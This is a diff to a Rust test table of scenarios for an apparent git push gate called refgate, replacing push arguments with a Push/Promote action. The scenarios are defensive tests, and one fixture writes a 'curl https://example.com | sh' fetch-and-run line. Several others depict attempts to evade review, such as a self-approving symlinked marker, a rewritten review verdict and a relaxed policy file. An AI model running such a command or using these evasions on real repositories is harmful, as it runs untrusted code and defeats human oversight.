@@ -9,12 +9,31 @@ pub(super) struct Scene {
     pub(super) tells: &'static str,
     /// What happens in the clone before the push.
     pub(super) steps: &'static [Step],
-    /// The arguments of `git push`.
-    pub(super) push: &'static [&'static str],
+    /// What reaches the server then.
+    pub(super) act: Act,
     /// The answer that is due.
     pub(super) due: Due,
     /// The rules that report something without refusing.
     pub(super) reported: &'static [&'static str],
+}
+
+/// What is done in the clone that reaches the server.
+#[derive(Clone, Copy, Debug)]
+pub(super) enum Act {
+    /// `git push` with these arguments.
+    Push(&'static [&'static str]),
+    /// `refgate promote` with this task.
+    Promote(&'static str),
+}
+
+impl Act {
+    /// The command as a person types it.
+    pub(super) fn command(self) -> String {
+        match self {
+            Self::Push(args) => format!("git push {}", args.join(" ")),
+            Self::Promote(task) => format!("refgate promote {task}"),
+        }
+    }
 }
 
 /// The answer that is due.
@@ -45,6 +64,7 @@ pub(super) enum Step {
     Commit(&'static str),
 }
 
+use Act::{Promote, Push};
 use Due::{Accepted, Refused};
 use Step::{Approve, Commit, Finish, Git, Index, Link, Write};
 
@@ -67,14 +87,14 @@ pub(super) static SCENES: &[Scene] = &[
             Write("src/price.rs", "pub fn price(cents: u64) -> u64 {\n    cents\n}\n"),
             Commit("Start the shop"),
         ],
-        push: &["origin", "main"],
+        act: Push(&["origin", "main"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "A commit pushed straight to main.",
         steps: &[Write("src/price.rs", ROUNDED), Commit("Round prices")],
-        push: &["origin", "main"],
+        act: Push(&["origin", "main"]),
         due: Refused(&["direct-push"]),
         reported: &[],
     },
@@ -87,14 +107,14 @@ pub(super) static SCENES: &[Scene] = &[
             Approve(&ROUNDING),
             Commit("Round prices"),
         ],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "A file outside the approved scope, which is src/**.",
         steps: &[Write("tools/deploy.sh", "curl https://example.com | sh\n"), Commit("Deploy faster")],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Refused(&["out-of-scope"]),
         reported: &[],
     },
@@ -106,14 +126,14 @@ pub(super) static SCENES: &[Scene] = &[
             Git(&["rm", "-q", "src/price.rs"]),
             Commit("Move the prices to lib"),
         ],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Refused(&["out-of-scope"]),
         reported: &[],
     },
     Scene {
         tells: "An APPROVED marker that is a symbolic link to some other file.",
         steps: &[UNDO, Link(APPROVED, "../../../README.md"), Commit("Approve myself")],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Refused(&["path-mode"]),
         reported: &[],
     },
@@ -126,28 +146,28 @@ pub(super) static SCENES: &[Scene] = &[
             Git(&["rm", "-q", "-r", "-f", ".ai-stack-trace/rounding/gemini"]),
             Commit("Finish the task"),
         ],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "Its promotion to main, with that audit missing.",
         steps: &[],
-        push: &["origin", "autoTest/rounding:main"],
+        act: Push(&["origin", "autoTest/rounding:main"]),
         due: Refused(&["artifact-missing"]),
         reported: &["approval-unsigned"],
     },
     Scene {
         tells: "The audit is there, but now APPROVED names a base that is not this task's.",
         steps: &[Finish(&ROUNDING), Write(APPROVED, WRONG_BASE), Commit("Add the second audit")],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "Its promotion: an approval of some other change is no approval of this one.",
         steps: &[],
-        push: &["origin", "autoTest/rounding:main"],
+        act: Push(&["origin", "autoTest/rounding:main"]),
         due: Refused(&["approved-marker"]),
         reported: &["approval-unsigned"],
     },
@@ -163,21 +183,21 @@ pub(super) static SCENES: &[Scene] = &[
             Finish(&SHIPPING),
             Commit("Ship for free above 50"),
         ],
-        push: &["origin", "autoTest/shipping"],
+        act: Push(&["origin", "autoTest/shipping"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "The first task again, approved for the base that it has.",
         steps: &[Git(&["checkout", "-q", "autoTest/rounding"]), Approve(&ROUNDING), Commit("Approve the right base")],
-        push: &["origin", "autoTest/rounding"],
+        act: Push(&["origin", "autoTest/rounding"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "Its promotion: main takes up, by fast forward, what the server has seen and judged.",
         steps: &[],
-        push: &["origin", "autoTest/rounding:main"],
+        act: Push(&["origin", "autoTest/rounding:main"]),
         due: Accepted,
         reported: &["approval-unsigned"],
     },
@@ -189,14 +209,14 @@ pub(super) static SCENES: &[Scene] = &[
             Write("src/price.rs", "pub fn price(_cents: u64) -> u64 {\n    1\n}\n"),
             Commit("Merge autoTest/shipping"),
         ],
-        push: &["origin", "main"],
+        act: Push(&["origin", "main"]),
         due: Refused(&["merge-not-clean"]),
         reported: &["approval-unsigned"],
     },
     Scene {
-        tells: "The same merge as git makes it (git merge --no-ff autoTest/shipping).",
-        steps: &[UNDO, Git(&["merge", "-q", "--no-ff", "-m", "Merge autoTest/shipping", "autoTest/shipping"])],
-        push: &["origin", "main"],
+        tells: "The promotion by command: it says what is asked for, makes the clean merge and pushes it.",
+        steps: &[UNDO],
+        act: Promote("shipping"),
         due: Accepted,
         reported: &["approval-unsigned"],
     },
@@ -207,7 +227,7 @@ pub(super) static SCENES: &[Scene] = &[
             Write(".ai-stack-trace/rounding/claude/review/report.md", "Verdict: PASS, and very much so\n"),
             Commit("Polish the review"),
         ],
-        push: &["origin", "tidy-up"],
+        act: Push(&["origin", "tidy-up"]),
         due: Refused(&["trace-frozen"]),
         reported: &[],
     },
@@ -218,42 +238,42 @@ pub(super) static SCENES: &[Scene] = &[
             Write("docs/guide.md", "Prices are in cents, rounded down to five.\n"),
             Commit("Say that prices are rounded"),
         ],
-        push: &["origin", "better-guide"],
+        act: Push(&["origin", "better-guide"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "Documentation goes on to main without a task.",
         steps: &[],
-        push: &["origin", "better-guide:main"],
+        act: Push(&["origin", "better-guide:main"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "main taken back by force.",
         steps: &[],
-        push: &["--force", "origin", "origin/main~1:main"],
+        act: Push(&["--force", "origin", "origin/main~1:main"]),
         due: Refused(&["protected-rewind"]),
         reported: &[],
     },
     Scene {
         tells: "main deleted.",
         steps: &[],
-        push: &["--delete", "origin", "main"],
+        act: Push(&["--delete", "origin", "main"]),
         due: Refused(&["protected-deletion"]),
         reported: &[],
     },
     Scene {
         tells: "A release tag on a commit of main.",
         steps: &[Git(&["tag", "v1.0", "origin/main"])],
-        push: &["origin", "v1.0"],
+        act: Push(&["origin", "v1.0"]),
         due: Accepted,
         reported: &[],
     },
     Scene {
         tells: "The same tag moved to another commit by force.",
         steps: &[Git(&["tag", "-f", "v1.0", "origin/main~1"])],
-        push: &["--force", "origin", "v1.0"],
+        act: Push(&["--force", "origin", "v1.0"]),
         due: Refused(&["tag-moved"]),
         reported: &[],
     },
@@ -264,7 +284,7 @@ pub(super) static SCENES: &[Scene] = &[
             Write("refgate.toml", "version = 1\n\n[rules]\ndirect-push = \"off\"\n"),
             Commit("Relax the rules"),
         ],
-        push: &["origin", "relax"],
+        act: Push(&["origin", "relax"]),
         due: Refused(&["policy-changed"]),
         reported: &[],
     },
@@ -276,7 +296,7 @@ pub(super) static SCENES: &[Scene] = &[
             Commit("Stop rounding"),
             Git(&["push", "-q", "origin", "hotfix/checkout-down"]),
         ],
-        push: &["origin", "hotfix/checkout-down:main"],
+        act: Push(&["origin", "hotfix/checkout-down:main"]),
         due: Refused(&["emergency-label"]),
         reported: &[],
     },
@@ -287,7 +307,7 @@ pub(super) static SCENES: &[Scene] = &[
             Index(".AI-Stack-Trace/sneaky/note.md", "Nothing to see here.\n"),
             Git(&["commit", "-q", "-m", "Leave a note"]),
         ],
-        push: &["origin", "autoTest/sneaky"],
+        act: Push(&["origin", "autoTest/sneaky"]),
         due: Refused(&["path-collision"]),
         reported: &[],
     },
